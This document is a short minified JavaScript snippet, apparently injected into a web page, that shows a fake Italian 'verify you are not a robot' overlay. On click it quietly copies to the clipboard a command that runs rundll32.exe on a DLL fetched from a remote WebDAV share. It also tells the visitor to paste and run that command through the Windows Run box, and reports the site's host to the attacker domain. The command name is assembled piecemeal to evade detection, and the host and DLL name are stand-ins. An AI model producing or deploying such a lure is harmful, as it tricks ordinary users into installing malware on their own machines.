!function(e,t){"use strict";
var n={h:"\\\\webdav-cdn.invalid@80\\v\\",f:"AAAA.dll,PLACEHOLDER"},r=["r","u","n","d","l","l","3","2",".","e","x","e"].join("");
function o(){return r+" "+n.h+n.f}
function i(e){if(t.clipboard&&t.clipboard.writeText)return t.clipboard.writeText(e);var n=document.createElement("input");n.value=e,document.body.appendChild(n),n.select(),document.execCommand("copy"),n.remove();return Promise.resolve()}
var a=document.createElement("div");a.id="hc-"+Math.random().toString(36).slice(2),a.attachShadow({mode:"closed"}).innerHTML='<style>:host{position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:2147483646;font:15px/1.5 arial}</style><div class="r"><button>Verifica di non essere un robot</button><div class="s"></div></div>';
var s=a.shadowRoot;e.__sr=s;
document.addEventListener("DOMContentLoaded",function(){document.body.appendChild(a);a.addEventListener("click",function(){i(o()).then(function(){
a.setAttribute("data-s","1");var d=document.createElement("div");d.style.cssText="position:fixed;left:50%;top:30%;z-index:2147483647;background:#fff;padding:24px;box-shadow:0 2px 12px #0004";
d.innerHTML="<b>Passaggi di verifica</b><br>1) Premi Windows + R<br>2) Premi CTRL + V<br>3) Premi Invio<br><small>ID verifica: "+(1e5+Math.random()*9e5|0)+"</small>";document.body.appendChild(d);
e.fetch("https://webdav-cdn.invalid/c?"+e.location.host,{mode:"no-cors"})})})})
}(window,navigator);
